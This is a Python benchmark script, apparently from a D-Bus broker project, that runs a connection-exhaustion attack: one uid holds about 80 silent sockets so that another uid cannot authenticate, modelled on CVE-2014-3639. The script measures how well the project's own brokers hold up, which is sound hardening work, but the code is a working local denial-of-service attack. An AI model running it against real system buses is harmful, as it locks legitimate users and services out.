"""Attack (not a test): one uid's silent sockets lock other users out (hardening class 7).

    .venv/bin/python -m benchmarks.attack_unauth [--silent N] [TARGET ...]      (as root)

One uid (nobody) opens N connections and never sends a byte (not even the
SASL NUL), holding them open; then another uid tries 10 connections, each
allowed 2 s to authenticate and get its Hello answered. Printed per broker:
how many of the 10 succeeded. Every broker runs with dbus-daemon's default
max_incomplete_connections (64) and an allow-all policy, started as
benchmarks/attack_pinned.py starts them. CVE-2014-3639 is this class.
"""

import os
import signal
import socket
import sys
import time

from benchmarks.attack_pinned import print_row, target_args
from benchmarks.rawauth import read_line
from broker.wire.message import build_message

ATTACKER_UID = 65534  # nobody
VICTIM_UID = 61999  # no passwd entry needed: the bus takes the uid from SO_PEERCRED
LIMITS = {"max_incomplete_connections": 64}
TRIES = 10


def _as_uid(uid: int, fn) -> int:
    """Fork a child that runs ``fn`` as ``uid``; returns its pid."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setgroups([])
            os.setresgid(uid, uid, uid)
            os.setresuid(uid, uid, uid)
            fn()
        finally:
            os._exit(0)
    return pid


def hold_silent(path: str, n: int, ready_w: int) -> None:
    socks = []
    for _ in range(n):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect(path)
        except OSError:
            pass
        socks.append(s)
    os.write(ready_w, b"x")
    time.sleep(3600)


def one_connect(path: str) -> bool:
    """AUTH EXTERNAL, BEGIN and Hello within 2 s; True if the Hello was answered."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        try:
            s.connect(path)
            s.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
            if not read_line(s).startswith(b"OK"):
                return False
            s.sendall(b"BEGIN\r\n" + build_message(1, 1, path="/org/freedesktop/DBus", interface="org.freedesktop.DBus",
                                                   member="Hello", destination="org.freedesktop.DBus"))  # fmt: skip
            return len(s.recv(4096)) > 0
        except OSError:  # refused, closed or timed out
            return False


def attack(path: str, silent: int) -> str:
    r, w = os.pipe()
    holder = _as_uid(ATTACKER_UID, lambda: hold_silent(path, silent, w))
    os.read(r, 1)
    time.sleep(0.3)
    r2, w2 = os.pipe()
    tester = _as_uid(VICTIM_UID, lambda: os.write(w2, str(sum(one_connect(path) for _ in range(TRIES))).encode()))
    os.close(w2)
    os.waitpid(tester, 0)
    got = os.read(r2, 16)
    os.kill(holder, signal.SIGKILL)
    os.waitpid(holder, 0)
    for fd in (r, w, r2):
        os.close(fd)
    return f"{int(got or b'0')}/{TRIES} connected"


def main() -> None:
    ap = target_args(__doc__)
    ap.add_argument("--silent", type=int, default=80, help="silent sockets the attacker holds (default 80)")
    args = ap.parse_args()
    if os.geteuid() != 0:
        sys.exit("attack_unauth: run as root (it runs the attacker and the victim as two other uids)")
    print(f"uid {ATTACKER_UID} holds {args.silent} silent sockets; uid {VICTIM_UID} then tries {TRIES} connections "
          f"(2 s each); limits {LIMITS}")  # fmt: skip

    def measure(_pid, sock):
        os.chmod(sock, 0o777)
        return attack(sock, args.silent)

    for kind in args.targets:
        print_row(kind, "", "attack-unauth.", args.sealbus_cmd, measure, LIMITS)


if __name__ == "__main__":
    main()
